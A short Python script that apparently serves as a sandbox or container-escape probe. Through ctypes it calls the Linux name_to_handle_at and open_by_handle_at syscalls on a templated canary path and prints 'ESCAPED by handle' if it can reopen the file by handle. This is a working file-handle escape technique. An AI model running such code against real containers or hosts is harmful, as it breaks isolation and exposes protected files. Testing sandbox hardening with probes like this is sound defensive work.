import ctypes

libc = ctypes.CDLL(None)
handle = ctypes.create_string_buffer(b"\x80\x00\x00\x00" + bytes(132), 136)
mount = ctypes.c_int()
print(libc.syscall(303, -100, b"@CANARY@/secret.txt", handle, ctypes.byref(mount), 0))
if libc.syscall(304, -100, handle, 0) >= 0:
    print("ESCAPED by handle")
